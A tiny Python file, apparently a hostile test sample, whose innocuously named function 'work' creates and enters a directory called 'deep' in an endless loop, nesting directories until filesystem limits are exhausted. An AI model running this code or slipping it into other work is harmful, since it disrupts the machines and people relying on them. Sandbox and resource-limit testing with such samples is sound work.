import os


def work(x):
    while True:
        os.mkdir("deep")
        os.chdir("deep")
